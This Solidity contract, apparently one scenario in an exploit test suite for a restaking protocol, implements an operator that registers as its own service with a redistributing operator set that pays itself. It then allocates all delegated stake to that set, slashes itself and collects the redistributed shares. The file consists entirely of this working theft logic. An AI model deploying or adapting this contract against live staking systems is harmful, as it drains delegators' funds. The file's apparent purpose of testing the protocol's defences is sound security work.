// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IAllocationManager} from "../../3-restaking/interfaces/IAllocationManager.sol";
import {IAVSRegistrar} from "../../3-restaking/interfaces/IAVSRegistrar.sol";
import {IDelegationManager} from "../../3-restaking/interfaces/IDelegationManager.sol";
import {IStrategy} from "../../3-restaking/interfaces/IStrategy.sol";
import {IStrategyManager} from "../../3-restaking/interfaces/IStrategyManager.sol";
import "../../3-restaking/interfaces/Types.sol" as Core;
import {Exploit, Scene} from "../Exploit.sol";

/// @title An operator that is its own service, and is paid what it is slashed
/// @notice Registers with no delay and a set that redistributes to itself; once it is given stake, it puts all of it
/// behind the set, slashes itself and keeps the tokens, in one transaction.
contract SelfRedistribution is Exploit, IAVSRegistrar {
    constructor(Scene memory scene) payable Exploit(scene) {}

    /// @inheritdoc Exploit
    function turn(uint256 number) external override {
        IAllocationManager allocation = IAllocationManager(others[1]);
        if (number == 0) _become(IDelegationManager(others[0]), allocation);
        if (number == 1) _slashMyself(allocation, IStrategyManager(others[2]));
    }

    /// @inheritdoc IAVSRegistrar
    function registerOperator(address, address, uint32[] calldata, bytes calldata) external {}

    /// @inheritdoc IAVSRegistrar
    function deregisterOperator(address, address, uint32[] calldata) external {}

    /// @inheritdoc IAVSRegistrar
    function supportsAVS(address) external pure returns (bool) {
        return true;
    }

    function _become(IDelegationManager core, IAllocationManager allocation) private {
        core.registerAsOperator(address(0), 0, "");
        allocation.updateAVSMetadataURI(address(this), "");
        Core.CreateSetParams[] memory sets = new Core.CreateSetParams[](1);
        sets[0].strategies = _strategies();
        address[] memory recipients = new address[](1);
        recipients[0] = address(this);
        allocation.createRedistributingOperatorSets(address(this), sets, recipients);
        allocation.registerForOperatorSets(address(this), Core.RegisterParams(address(this), new uint32[](1), ""));
    }

    function _slashMyself(IAllocationManager allocation, IStrategyManager strategies) private {
        Core.OperatorSet memory mine = Core.OperatorSet(address(this), 0);
        uint64[] memory magnitudes = new uint64[](1);
        magnitudes[0] = 1e18;
        Core.AllocateParams[] memory all = new Core.AllocateParams[](1);
        all[0] = Core.AllocateParams(mine, _strategies(), magnitudes);
        allocation.modifyAllocations(address(this), all);
        uint256[] memory wads = new uint256[](1);
        wads[0] = 1e18;
        (uint256 slashId, ) = allocation.slashOperator(
            address(this),
            Core.SlashingParams(address(this), 0, _strategies(), wads, "")
        );
        strategies.clearBurnOrRedistributableShares(mine, slashId);
    }

    function _strategies() private view returns (IStrategy[] memory list) {
        list = new IStrategy[](1);
        list[0] = IStrategy(others[3]);
    }
}
